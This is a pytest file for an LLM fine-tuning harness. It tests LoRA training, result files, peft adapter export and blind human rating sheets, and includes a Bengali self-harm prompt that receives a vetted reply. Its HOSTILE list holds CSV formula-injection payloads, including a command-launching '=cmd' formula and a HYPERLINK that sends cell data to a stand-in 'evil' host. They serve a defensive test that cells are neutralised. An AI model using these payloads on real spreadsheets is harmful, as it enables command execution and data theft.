"""The end of a training run on a tiny model: base against tuned, the artefacts, the adapter in peft's format."""

from __future__ import annotations

import csv
import json
from dataclasses import dataclass, replace
from pathlib import Path

import jsonschema
import peft
import pytest
import torch
from safetensors.torch import load_file

from memory_harness.configs.errors import ConfigError
from memory_harness.configs.models import find_model
from memory_harness.configs.preset import load_preset
from memory_harness.configs.printable import text_of
from memory_harness.configs.schema import RunConfig
from memory_harness.harness.data.batching import left_padded
from memory_harness.harness.data.prepare import Prepared, prepare
from memory_harness.harness.log.manifest import LOG_FILE
from memory_harness.harness.log.records import Outcome, Phase
from memory_harness.harness.log.runlog import RunLog, read_run_log
from memory_harness.harness.observe.recorder import PhaseRecorder
from memory_harness.harness.results import experiments
from memory_harness.harness.results.experiments import (
    LISTS,
    append_experiment,
    append_responses,
    check_artefacts,
    experiment_id,
    is_written_down,
    read_responses,
)
from memory_harness.harness.results.human_sheet import KEY, SHEET, score_sheet, write_sheet
from memory_harness.harness.results.model_card import write_model_card
from memory_harness.harness.results.replies import BASE, TUNED, VETTED, Reply
from memory_harness.harness.strategies.architecture import transformers_config
from memory_harness.harness.train.assessment import assess
from memory_harness.harness.train.finetune import answer_only
from memory_harness.harness.train.recovery import Protection
from memory_harness.harness.train.run import Run, make_strategy, open_device
from memory_harness.harness.train.run_folder import Hooks, train_run
from memory_harness.reports.entry import main

SCHEMAS = Path(experiments.__file__).with_name("schemas")


@dataclass
class Trained:
    config: RunConfig
    data: Prepared
    log: RunLog
    replies: list[Reply]
    adapter: Path
    strategy: object


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Trained:
    """One epoch on a few samples; two drawn replies to each of three questions, one of them of self-harm."""
    folder = tmp_path_factory.mktemp("run")
    prompts = folder / "prompts.csv"
    prompts.write_text("\ufeff Question \nআজ মন খারাপ\nআমি আত্মহত্যা করতে চাই\n\nকী করব?\nকী করব?\n", encoding="utf-8")
    config = load_preset("smoke_cpu").with_fields(
        samples=8, epochs=1, max_length=64, max_new_tokens=4, learning_rate=0.02, generate_batch_size=3,
        temperature=1.0, top_p=0.95, repetition_penalty=1.1, replies_per_prompt=2, prompts=str(prompts),
    )  # fmt: skip
    data, device = prepare(config), open_device(config)
    strategy = make_strategy(config, device)
    opened = Run(config, device, strategy, data)
    finished: list[Reply] = []

    def finish(recorder: PhaseRecorder, protection: Protection) -> bool:
        finished.extend(assess(opened, recorder, protection) or ())
        strategy.export(folder / "adapter")
        return True

    run = folder / "run"
    hooks = Hooks(on_record=lambda _: None, stop_signal=lambda: "", finish=finish)
    outcome = train_run(run, opened, hooks, resume=None, gate_reason="")
    assert outcome is Outcome.COMPLETED
    return Trained(config, data, read_run_log(run / LOG_FILE), finished, folder / "adapter", strategy)


def test_base_and_tuned_are_told_apart(trained: Trained) -> None:
    by_model = {record.model: record for record in trained.log.metrics}
    assert set(by_model) == {TUNED, BASE}
    assert by_model[TUNED].perplexity < by_model[BASE].perplexity
    assert by_model[TUNED].bits_per_byte < by_model[BASE].bits_per_byte
    # random weights give each of the tokens about the same share
    assert by_model[BASE].perplexity == pytest.approx(1024, rel=0.2)
    assert [record.model for record in trained.log.evals][-2:] == [TUNED, BASE]
    assert by_model[TUNED].bleu is None  # there are no references to prompts of one's own
    generations = [p for p in trained.log.phases if p.phase is Phase.GENERATE]
    assert len(generations) == 2 + 2  # of each model


def test_replies_are_drawn_apart_and_a_question_of_self_harm_is_answered_in_advance(trained: Trained) -> None:
    drawn = [r for r in trained.replies if r.answered_by == TUNED]
    assert [(r.prompt, r.sample) for r in drawn] == [(0, 0), (0, 1), (2, 0), (2, 1)]
    assert drawn[0].token_ids != drawn[1].token_ids
    assert all(len(r.token_ids) <= 4 and r.stopped == (len(r.token_ids) < 4) for r in drawn)
    (vetted,) = [r for r in trained.replies if r.answered_by == VETTED]
    assert vetted.prompt == 1
    assert vetted.text == trained.data.prompts[1].vetted_reply
    assert "999" in vetted.text
    assert trained.data.prompt_report is not None
    assert trained.data.prompt_report.dropped["duplicate"] == 1


def test_references_from_the_corpus_are_scored(trained: Trained) -> None:
    from memory_harness.harness.train.assessment import metrics

    config = trained.config.with_fields(prompts=None, generate_prompts=2)
    data = prepare(config)
    perfect = [Reply(i, 0, p.references[0], (5,), TUNED, None, True) for i, p in enumerate(data.prompts)]
    scores = metrics(trained.log.evals[-1], perfect, data, computed=True)
    assert (scores.num_replies, scores.bleu, scores.rougeL) == (2, pytest.approx(100), 1.0)


def test_replies_that_do_not_exist_have_no_score(trained: Trained) -> None:
    """Without a tokenizer every reply is empty."""
    from dataclasses import replace

    from memory_harness.harness.train.assessment import metrics

    data = prepare(trained.config.with_fields(prompts=None, generate_prompts=2))
    data = replace(data, prompts=[replace(prompt, input_ids=None) for prompt in data.prompts])
    empty = [Reply(i, 0, "", (0,), TUNED, None, False) for i in range(2)]
    scores = metrics(trained.log.evals[-1], empty, data, computed=True)
    assert (scores.num_replies, scores.bleu, scores.chrf, scores.rougeL) == (0, None, None, None)
    assert scores.perplexity is not None


def test_the_artefacts_are_valid_and_are_appended_to(trained: Trained, tmp_path: Path) -> None:
    check_artefacts(tmp_path)
    for _ in range(2):
        _append_both(trained, tmp_path)
    check_artefacts(tmp_path)
    for name in ("GeneratedResponses", "LLAMAExperiments"):
        content = json.loads((tmp_path / f"{name}.json").read_text(encoding="utf-8"))
        schema = json.loads((SCHEMAS / f"{name}.schema.json").read_text(encoding="utf-8"))
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(content, schema, format_checker=jsonschema.FormatChecker())
        assert len(next(v for v in content.values() if isinstance(v, list))) == 2 * (
            1 if name == "LLAMAExperiments" else len(trained.replies)
        )
    experiment = content["experiments"][0]
    assert experiment["id"] == experiment_id(trained.log.run) == read_responses(tmp_path)[0]["experiment_id"]
    assert experiment["lora"]["lora_rank"] == trained.config.lora.lora_rank
    assert experiment["losses"]["train"][-1]["loss"] == trained.log.steps[-1].loss
    assert experiment["memory"]["peak_allocated_bytes"] == trained.log.peak_allocated_bytes > 0
    assert set(experiment["metrics"]) == {TUNED, BASE}
    with (tmp_path / "GeneratedResponses.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["response"] for row in rows] == 2 * [reply.text for reply in trained.replies]
    assert sorted(path.name for path in tmp_path.iterdir() if not path.name.endswith(".lock")) == [
        "GeneratedResponses.csv", "GeneratedResponses.json", "LLAMAExperiments.json",
    ]  # fmt: skip


def test_what_another_process_wrote_of_the_same_run_is_replaced(trained: Trained, tmp_path: Path) -> None:
    """A run that went out of memory and was remedied, or was killed before all was written, is one experiment."""
    other = replace(trained.log.run, started_at="2020-01-01T00:00:00+00:00")
    append_responses(tmp_path, other, trained.data, trained.replies)
    for _ in range(2):
        append_responses(tmp_path, trained.log.run, trained.data, trained.replies, replace_earlier=True)
        append_experiment(tmp_path, trained.log, trained.data, {"log": "runs/x-train/run.jsonl"})
    append_experiment(tmp_path, trained.log, trained.data, {"log": "runs/y-train/run.jsonl"})
    ids = [reply["experiment_id"] for reply in read_responses(tmp_path)]
    with (tmp_path / "GeneratedResponses.csv").open(encoding="utf-8-sig", newline="") as file:
        assert [row["experiment_id"] for row in csv.DictReader(file)] == ids
    number = len(trained.replies)
    assert ids == number * [experiment_id(other)] + number * [experiment_id(trained.log.run)]
    assert len(json.loads((tmp_path / "LLAMAExperiments.json").read_text())["experiments"]) == 2
    assert is_written_down(tmp_path / "x-train")
    assert not is_written_down(tmp_path / "z-train")


def test_runs_that_began_in_the_same_second_keep_their_replies(trained: Trained, tmp_path: Path) -> None:
    run = trained.log.run
    twins = [replace(run, id=name) for name in ("a", "b", "c")]
    for twin in twins:
        append_responses(tmp_path, twin, trained.data, trained.replies, replace_earlier=True)
    ids = [reply["experiment_id"] for reply in read_responses(tmp_path)]
    assert ids == [experiment_id(twin) for twin in twins for _ in trained.replies]
    assert len(set(ids)) == 3
    assert run.id
    assert run.id in experiment_id(run)


def test_what_others_have_added_to_a_file_survives(trained: Trained, tmp_path: Path) -> None:
    for name, key in LISTS.items():
        text = f'{{"notes": "mine \\ud83d\\ude00", "schema_version": 1, "{key}": [], "more": {{"a": [1, null]}}}}'
        (tmp_path / name).write_text(text)
    _append_both(trained, tmp_path)
    for name, key in LISTS.items():
        content = json.loads((tmp_path / name).read_text(encoding="utf-8"))
        assert (content["notes"], content["more"]) == ("mine 😀", {"a": [1, None]})
        assert content[key]


def test_what_ends_generating_costs_the_replies_of_one_batch(
    trained: Trained, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = trained.config.with_fields(output=str(tmp_path))
    device = open_device(config)
    strategy = make_strategy(config, device)
    prefill, begun = strategy.prefill, []

    def dies_in_the_second_batch(*arguments: object, **options: object) -> object:
        begun.append(len(read_responses(tmp_path)))
        if len(begun) == 2:
            raise KeyboardInterrupt
        return prefill(*arguments, **options)

    monkeypatch.setattr(strategy, "prefill", dies_in_the_second_batch)
    with pytest.raises(KeyboardInterrupt):
        answer_only(trained.adapter, Run(config, device, strategy, trained.data), tmp_path / "run.jsonl")
    assert begun == [1, 1 + 3]  # the vetted reply, then a batch of three
    assert [reply["answered_by"] for reply in read_responses(tmp_path)] == [VETTED, TUNED, TUNED, TUNED]
    with (tmp_path / "GeneratedResponses.csv").open(encoding="utf-8-sig", newline="") as file:
        assert len(list(csv.DictReader(file))) == 4


HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?x="&A1)',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'quoted",
    "a\x1b[2Jb",
]


def test_no_cell_of_a_table_is_a_formula(trained: Trained, tmp_path: Path) -> None:
    replies = [replace(trained.replies[0], text=text) for text in HOSTILE]
    append_responses(tmp_path, trained.log.run, trained.data, replies)
    assert [reply["response"] for reply in read_responses(tmp_path)] == HOSTILE
    with (tmp_path / "GeneratedResponses.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [row["response"] for row in csv.DictReader(file)]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [text_of(cell) for cell in cells] == [*HOSTILE[:-1], "a\ufffd[2Jb"]
    write_sheet(tmp_path, seed=0)
    with (tmp_path / SHEET).open(encoding="utf-8-sig", newline="") as file:
        sheet = [row["response"] for row in csv.DictReader(file)]
    assert sorted(sheet) == sorted(cells)


def _append_both(trained: Trained, folder: Path) -> None:
    append_responses(folder, trained.log.run, trained.data, trained.replies)
    append_experiment(folder, trained.log, trained.data, {"adapter": "x"})


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("GeneratedResponses.json", b'{"responses": [', "not valid JSON"),
        ("GeneratedResponses.json", b"[]", "no schema_version"),
        ("LLAMAExperiments.json", b'{"schema_version": 99, "experiments": []}', "schema_version 99"),
        ("LLAMAExperiments.json", b'{"schema_version": 1}', "no list of experiments"),
        ("LLAMAExperiments.json", b"\xff\xfe", "not UTF-8"),
        ("GeneratedResponses.csv", b"a,b\n1,2\n", "other columns"),
    ],
)
def test_a_file_that_is_not_ours_is_left_alone(
    trained: Trained, tmp_path: Path, name: str, content: bytes, reason: str
) -> None:
    (tmp_path / name).write_bytes(content)
    with pytest.raises(ConfigError, match=reason) as failure:
        check_artefacts(tmp_path)
    assert len(str(failure.value).splitlines()) == 1
    with pytest.raises(ConfigError, match=reason):
        _append_both(trained, tmp_path)
    assert (tmp_path / name).read_bytes() == content


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('{"schema_version": 1, "responses": [{"x": NaN}]}', "NaN is no number of JSON"),
        ('{"schema_version": 1, "responses": [{"question": "\\ud800"}]}', "surrogates not allowed"),
        ('{"schema_version": 1, "responses": [{"question": "x"}]}', "number 1 of responses lacks one of experiment_id"),
        ('{"schema_version": 1, "responses": ["x"]}', "number 1 of responses lacks"),
        ("[" * 100_000, "recursion"),
    ],
)
def test_what_somebody_has_made_of_a_file_is_known_before_the_run(tmp_path: Path, text: str, reason: str) -> None:
    (tmp_path / "GeneratedResponses.json").write_text(text)
    with pytest.raises(ConfigError, match=reason):
        check_artefacts(tmp_path)


def test_a_table_cut_within_a_cell_is_not_added_to(trained: Trained, tmp_path: Path) -> None:
    append_responses(tmp_path, trained.log.run, trained.data, trained.replies)
    table = tmp_path / "GeneratedResponses.csv"
    whole = table.read_text(encoding="utf-8")
    table.write_text(whole + '2026-a,0,0,"half a quest', encoding="utf-8")
    with pytest.raises(ConfigError, match="has not all columns"):
        check_artefacts(tmp_path)


def test_a_crash_while_writing_leaves_what_was_there(
    trained: Trained, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    append_experiment(tmp_path, trained.log, trained.data, {})
    before = (tmp_path / "LLAMAExperiments.json").read_bytes()

    def crash(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.fsync", crash)
    with pytest.raises(ConfigError, match="No space left"):
        append_experiment(tmp_path, trained.log, trained.data, {})
    assert (tmp_path / "LLAMAExperiments.json").read_bytes() == before


def test_a_diverged_loss_is_null_in_the_file(trained: Trained, tmp_path: Path) -> None:
    from dataclasses import replace

    step = replace(trained.log.steps[0], loss=float("nan"), grad_norm=float("inf"))
    append_experiment(tmp_path, replace(trained.log, steps=[step]), trained.data, {})
    content = json.loads((tmp_path / "LLAMAExperiments.json").read_text(), parse_constant=pytest.fail)
    assert content["experiments"][0]["losses"]["train"][0]["loss"] is None


def test_peft_loads_the_adapter_and_computes_the_same(trained: Trained) -> None:
    assert {p.name for p in trained.adapter.iterdir()} >= {"adapter_model.safetensors", "adapter_config.json"}
    saved = load_file(trained.adapter / "adapter_model.safetensors")
    assert all("lora_" in name for name in saved)
    assert max(float(t.abs().max()) for name, t in saved.items() if "lora_B" in name) > 0
    from transformers import AutoModelForCausalLM

    torch.manual_seed(1)
    base = AutoModelForCausalLM.from_config(transformers_config(find_model("tiny-llama")))
    loaded = peft.PeftModel.from_pretrained(base, str(trained.adapter))
    mine = {name.replace(".default", ""): p for name, p in trained.strategy.model.named_parameters() if p.requires_grad}
    theirs = {name.replace(".default", ""): p for name, p in loaded.named_parameters() if "lora_" in name}
    assert set(mine) == set(theirs)
    assert all(torch.equal(mine[name], theirs[name]) for name in mine)
    ids = torch.from_numpy(left_padded([[5, 6, 7]], 0)["input_ids"])
    with torch.no_grad():
        tuned = loaded(ids).logits
        with loaded.disable_adapter():
            assert not torch.allclose(tuned, loaded(ids).logits, atol=1e-3)


def test_saving_the_adapter_reads_no_other_weight(trained: Trained, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(type(trained.strategy.model), "state_dict", lambda *_: pytest.fail("asked for all weights"))
    trained.strategy.export(tmp_path / "again")
    trained.strategy.export(tmp_path / "again")
    assert (tmp_path / "again" / "adapter_config.json").is_file()
    assert [p.name for p in tmp_path.iterdir()] == ["again"]


def test_the_model_card_says_what_it_is_of(trained: Trained) -> None:
    import yaml

    write_model_card(trained.adapter, trained.log)
    text = (trained.adapter / "README.md").read_text(encoding="utf-8")
    header = yaml.safe_load(text.split("---")[1])
    assert (header["library_name"], header["language"]) == ("peft", "bn")
    assert "random weights" in text
    assert "rank 8" in text
    assert "| perplexity per target token |" in text
    assert "with the adapter | base model" in text


def test_a_sheet_is_blind_and_its_ratings_are_told_apart_by_the_key(
    trained: Trained, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--human-sheet", str(tmp_path)]) == 2
    append_responses(tmp_path, trained.log.run, trained.data, trained.replies)
    assert main(["--human-sheet", str(tmp_path)]) == 0
    sheet = tmp_path / SHEET
    assert str(sheet) in capsys.readouterr().out
    with pytest.raises(ConfigError, match="left as it is"):
        write_sheet(tmp_path, seed=1)
    with sheet.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    key = json.loads((tmp_path / KEY).read_text())
    givers = [key[row["row"]]["answered_by"] for row in rows]
    assert sorted(givers) == [BASE] * 4 + [TUNED] * 4
    assert givers != sorted(givers)
    assert givers != sorted(givers, reverse=True)
    assert not any(word in sheet.read_text(encoding="utf-8-sig").splitlines()[0] for word in (BASE, TUNED, "seed"))
    with pytest.raises(ConfigError, match="nothing is rated"):
        score_sheet(sheet)
    for row, giver in zip(rows, givers, strict=True):
        row |= {"empathy": "৫" if giver == TUNED else "3.0", "safety": "4" if row is rows[0] else ""}
    _write(sheet, rows)
    scores = score_sheet(sheet)
    assert {(r.answered_by, r.mean, r.num_ratings) for r in scores.ratings if r.criterion == "empathy"} == {
        (TUNED, 5, 4), (BASE, 3, 4),
    }  # fmt: skip
    assert scores.gains == {"empathy": (2.0, 2)}
    assert scores.num_blank == 8 * 4 - 9
    assert main(["--score-sheet", str(sheet)]) == 0
    assert "empathy    tuned less base +2.00  (2 questions)" in capsys.readouterr().out
    rows[0]["fluency"], rows[1]["row"] = "6", rows[0]["row"]
    _write(sheet, rows)
    with pytest.raises(ConfigError) as failure:
        score_sheet(sheet)
    assert [line.partition(": ")[2] for line in failure.value.problems] == [
        f"row {rows[0]['row']}, fluency '6': allowed are 1 to 5, or nothing", f"row '{rows[0]['row']}': twice",
    ]  # fmt: skip


def test_a_sheet_is_read_as_spreadsheets_save_it_and_only_with_its_key(trained: Trained, tmp_path: Path) -> None:
    append_responses(tmp_path, trained.log.run, trained.data, trained.replies)
    sheet = write_sheet(tmp_path, seed=1)
    with sheet.open(encoding="utf-8-sig", newline="") as file:
        rows = [row | {"empathy": "4"} for row in csv.DictReader(file)]
    empty = dict.fromkeys(rows[0], "")
    for delimiter in ",;\t":
        _write(sheet, [*rows, empty], delimiter)
        assert score_sheet(sheet).num_blank >= 8 * 3
    (tmp_path / KEY).write_text('{"1": 3}')
    with pytest.raises(ConfigError, match="is not the key"):
        score_sheet(sheet)
    _write(sheet, [rows[0] | {"comment": "x" * 200_000}])
    with pytest.raises(ConfigError, match="is no CSV"):
        score_sheet(sheet)
    with pytest.raises(ConfigError, match="no such folder"):
        write_sheet(sheet, seed=1)


def _write(sheet: Path, rows: list[dict[str, str]], delimiter: str = ",") -> None:
    with sheet.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)
